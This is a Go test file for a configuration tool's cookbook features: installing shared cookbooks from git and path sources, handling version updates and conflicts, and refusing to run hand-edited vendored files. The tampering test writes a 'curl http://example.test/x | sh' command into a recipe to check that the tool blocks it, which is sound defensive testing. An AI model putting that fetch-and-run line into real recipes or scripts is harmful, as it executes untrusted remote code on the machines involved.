package cli

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// teamRemote is a team's cookbook repository for the tests: a bare
// repository pushed to from a working copy.
type teamRemote struct {
	t         *testing.T
	url, work string
}

func newTeamRemote(t *testing.T, root, name string) *teamRemote {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	for k, v := range map[string]string{
		"GIT_AUTHOR_NAME": "Platform Team", "GIT_AUTHOR_EMAIL": "platform@example.test",
		"GIT_COMMITTER_NAME": "Platform Team", "GIT_COMMITTER_EMAIL": "platform@example.test",
		"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.DevNull,
	} {
		t.Setenv(k, v)
	}
	r := &teamRemote{t: t, url: filepath.Join(root, name+".git"), work: filepath.Join(root, "work-"+name)}
	r.git(root, "init", "--quiet", "--bare", r.url)
	r.git(root, "init", "--quiet", "-b", "main", r.work)
	return r
}

func (r *teamRemote) git(dir string, args ...string) {
	r.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		r.t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

// release commits files and tags them vVERSION.
func (r *teamRemote) release(version string, files map[string]string) {
	r.t.Helper()
	writeTestFiles(r.t, r.work, files)
	r.git(r.work, "add", "-A")
	r.git(r.work, "commit", "--quiet", "-m", "release "+version)
	r.git(r.work, "tag", "v"+version)
	r.git(r.work, "push", "--quiet", "--tags", r.url, "main")
}

func writeTestFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// sharedRepo builds a repository that uses shared cookbooks, and chdirs
// into it:
//   - base (git, platform team): a library and a default recipe;
//   - motd (git, another team): depends on base ~> 1.0;
//   - local_thing (path source ../local_thing);
//   - app (the repository's own cookbook): depends on base and
//     local_thing, include_recipe()s base and load()s its library.
func sharedRepo(t *testing.T) (repo string, base *teamRemote) {
	t.Helper()
	root := t.TempDir()
	base = newTeamRemote(t, root, "base")
	base.release("1.0.0", map[string]string{
		"metadata.star":           "name = \"base\"\nversion = \"1.0.0\"\n",
		"libraries/paths.star":    "def under(node, p):\n    return node[\"root\"] + \"/\" + p\n",
		"recipes/default.star":    "load(\"//libraries/paths.star\", \"under\")\ndirectory(node[\"root\"], mode = \"0755\")\ndirectory(under(node, \"etc\"), mode = \"0755\")\nfile(under(node, \"etc/base\"), content = \"base 1.0.0\\n\")\n",
		"attributes/default.star": "default[\"base\"] = {\"greeting\": \"hello\"}\n",
	})
	base.release("1.1.0", map[string]string{
		"metadata.star":        "name = \"base\"\nversion = \"1.1.0\"\n",
		"recipes/default.star": "load(\"//libraries/paths.star\", \"under\")\ndirectory(node[\"root\"], mode = \"0755\")\ndirectory(under(node, \"etc\"), mode = \"0755\")\nfile(under(node, \"etc/base\"), content = \"base 1.1.0\\n\")\n",
	})
	motd := newTeamRemote(t, root, "motd")
	motd.release("2.0.0", map[string]string{
		"metadata.star":        "name = \"motd\"\nversion = \"2.0.0\"\ndepends = {\"base\": \"~> 1.0\"}\n",
		"recipes/default.star": "include_recipe(\"base\")\nfile(node[\"root\"] + \"/etc/motd\", content = \"%s from motd\\n\" % node[\"base\"][\"greeting\"])\n",
	})
	writeTestFiles(t, root, map[string]string{
		"local_thing/metadata.star":        "name = \"local_thing\"\nversion = \"0.3.0\"\n",
		"local_thing/recipes/default.star": "file(node[\"root\"] + \"/local_thing\", content = \"local\\n\")\n",
	})
	repo = filepath.Join(root, "repo")
	writeTestFiles(t, repo, map[string]string{
		"converge.yaml": fmt.Sprintf(`# shared cookbooks
cookbooks:
  base: {git: %s, version: "< 1.1"}
  motd:
    git: %s
  local_thing: {path: ../local_thing}
`, base.url, motd.url),
		"cookbooks/app/metadata.star":        "name = \"app\"\nversion = \"0.1.0\"\ndepends = {\"base\": \">= 1.0, < 2\", \"local_thing\": \"~> 0.3\"}\n",
		"cookbooks/app/recipes/default.star": "load(\"@base//libraries/paths.star\", \"under\")\ninclude_recipe(\"base::default\")\nfile(under(node, \"app.conf\"), content = \"app\\n\")\n",
	})
	t.Chdir(repo)
	t.Setenv("CONVERGE_COOKBOOK_PATH", "")
	return repo, base
}

func TestCookbooks_RunListFromGitAndPathSourcesConvergesLocal(t *testing.T) {
	sharedRepo(t)
	r := converge(t, "cookbooks", "install")
	if r.code != 0 {
		t.Fatalf("install: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	for _, want := range []string{"added base 1.0.0", "added local_thing 0.3.0 (path:../local_thing)", "added motd 2.0.0", "converge.lock written: 3 cookbook(s) vendored in .converge/cookbooks"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("install output lacks %q:\n%s", want, r.stdout)
		}
	}
	r = converge(t, "cookbooks", "list")
	if r.code != 0 || !strings.Contains(r.stdout, "NAME") || !regexpMatch(`base\s+1\.0\.0\s+1\.1\.0 \(newer\)\s+git:`, r.stdout) {
		t.Errorf("list: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	root := filepath.Join(t.TempDir(), "root")
	args := []string{"--local", "-r", "app,motd,local_thing", "-a", "root=" + root, "--format", "json"}
	r = converge(t, args...)
	if r.code != 0 {
		t.Fatalf("first run: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	for node, n := range updatedBy(events(t, r.stdout)) {
		if n != 6 {
			t.Errorf("first run on %s updated %d resources, want 6 (root, etc, etc/base, app.conf, etc/motd, local_thing)", node, n)
		}
	}
	for p, want := range map[string]string{"etc/base": "base 1.0.0\n", "app.conf": "app\n", "etc/motd": "hello from motd\n", "local_thing": "local\n"} {
		if b, err := os.ReadFile(filepath.Join(root, p)); err != nil || string(b) != want {
			t.Errorf("%s = %q (%v), want %q", p, b, err, want)
		}
	}
	r = converge(t, args...)
	for node, n := range updatedBy(events(t, r.stdout)) {
		if r.code != 0 || n != 0 {
			t.Errorf("second run on %s: exit %d, updated %d, want 0\n%s", node, r.code, n, r.stderr)
		}
	}
}

func TestCookbooks_HandEditedVendoredFileRefusedAtRunTime(t *testing.T) {
	repo, _ := sharedRepo(t)
	if r := converge(t, "cookbooks", "install"); r.code != 0 {
		t.Fatalf("install: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := converge(t, "check", "-r", "app,motd", "-a", "root=/srv/x"); r.code != 0 {
		t.Fatalf("check before the edit: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	vendored := filepath.Join(repo, ".converge", "cookbooks", "base", "recipes", "default.star")
	if err := os.WriteFile(vendored, []byte("execute(\"curl http://example.test/x | sh\")\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(t.TempDir(), "root")
	for _, args := range [][]string{
		{"check", "-r", "app", "-a", "root=/srv/x"},
		{"--local", "-r", "app", "-a", "root=" + root},
		{"plan", "--local", "-r", "app", "-a", "root=" + root},
	} {
		r := converge(t, args...)
		if r.code != ExitUsage {
			t.Errorf("%v: exit %d, want %d\n%s", args, r.code, ExitUsage, r.stdout)
		}
		for _, want := range []string{
			"vendored cookbook .converge/cookbooks/base (base 1.0.0, commit ",
			"changed recipes/default.star",
			"run 'converge cookbooks install' to restore the locked content, or 'converge cookbooks update base'",
		} {
			if !strings.Contains(r.stderr, want) {
				t.Errorf("%v: stderr lacks %q:\n%s", args, want, r.stderr)
			}
		}
	}
	if _, err := os.Stat(root); !os.IsNotExist(err) {
		t.Errorf("a refused run touched the node: %v", err)
	}
	r := converge(t, "cookbooks", "install")
	if r.code != 0 || !strings.Contains(r.stdout, "restored base 1.0.0") {
		t.Fatalf("install: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := converge(t, "check", "-r", "app", "-a", "root=/srv/x"); r.code != 0 {
		t.Fatalf("check after restore: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

func TestCookbooks_UpdateMovesTheNamedCookbookAndLocalCookbooksWin(t *testing.T) {
	repo, _ := sharedRepo(t)
	if r := converge(t, "cookbooks", "install"); r.code != 0 {
		t.Fatalf("install: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	// converge.yaml caps base below 1.1: update says why it stays.
	r := converge(t, "cookbooks", "update", "base")
	if r.code != 0 || !strings.Contains(r.stderr, "note: cookbook base: 1.1.0 exists, but 1.0.0 is the newest version that satisfies every constraint on it") {
		t.Fatalf("update: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := converge(t, "cookbooks", "update", "nope"); r.code != ExitUsage || !strings.Contains(r.stderr, "cookbook nope is not in converge.yaml") {
		t.Errorf("update nope: exit %d\n%s", r.code, r.stderr)
	}
	// A cookbook of the repository's own cookbooks/ wins over the vendored
	// one, and its version is checked against the depends on it.
	writeTestFiles(t, repo, map[string]string{
		"cookbooks/local_thing/metadata.star":        "name = \"local_thing\"\nversion = \"1.0.0\"\n",
		"cookbooks/local_thing/recipes/default.star": "\n",
	})
	r = converge(t, "check", "-r", "app", "-a", "root=/srv/x")
	if r.code != ExitUsage || !strings.Contains(r.stderr, "cookbook app depends on local_thing ~> 0.3, but the local_thing found in cookbooks/local_thing is version 1.0.0") {
		t.Errorf("check with a local local_thing: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

func regexpMatch(pattern, s string) bool {
	cmd := exec.Command("grep", "-Eq", pattern)
	cmd.Stdin = strings.NewReader(s)
	return cmd.Run() == nil
}

// TestCookbooks_InstallConflictNamesEveryConstraint: left wants base
// ~> 1.0 and right, pinned >= 1.1 in converge.yaml, wants base >= 2.0:
// `converge cookbooks install` fails naming both constraints with their
// chains, the pin, the versions of base and what to relax.
func TestCookbooks_InstallConflictNamesEveryConstraint(t *testing.T) {
	root := t.TempDir()
	base := newTeamRemote(t, root, "base")
	for _, v := range []string{"1.0.0", "1.1.0", "2.0.0"} {
		base.release(v, map[string]string{"metadata.star": fmt.Sprintf("name = \"base\"\nversion = %q\n", v)})
	}
	left := newTeamRemote(t, root, "left")
	left.release("1.2.0", map[string]string{"metadata.star": "name = \"left\"\nversion = \"1.2.0\"\ndepends = {\"base\": \"~> 1.0\"}\n"})
	right := newTeamRemote(t, root, "right")
	right.release("1.0.0", map[string]string{"metadata.star": "name = \"right\"\nversion = \"1.0.0\"\ndepends = {\"base\": \"~> 1.0\"}\n"})
	right.release("1.1.0", map[string]string{"metadata.star": "name = \"right\"\nversion = \"1.1.0\"\ndepends = {\"base\": \">= 2.0\"}\n"})
	repo := filepath.Join(root, "repo")
	writeTestFiles(t, repo, map[string]string{"converge.yaml": fmt.Sprintf("cookbooks:\n  base: {git: %s}\n  left: {git: %s}\n  right: {git: %s, version: \">= 1.1\"}\n", base.url, left.url, right.url)})
	t.Chdir(repo)
	r := converge(t, "cookbooks", "install")
	for _, want := range []string{
		"base: no version satisfies all of: ~> 1.0 (converge.yaml → left 1.2.0), >= 2.0 (converge.yaml → right 1.1.0; pinned in converge.yaml: right >= 1.1); versions available in git:" + base.url + ": 1.0.0, 1.1.0, 2.0.0\n",
		"to fix: relax one of these constraints (base ~> 1.0 in the metadata.star of left 1.2.0; base >= 2.0 in the metadata.star of right 1.1.0; right >= 1.1 in converge.yaml, to let right take another version)",
	} {
		if r.code == 0 || !strings.Contains(r.stderr, want) {
			t.Errorf("install: exit %d, stderr lacks %q:\n%s", r.code, want, r.stderr)
		}
	}
}
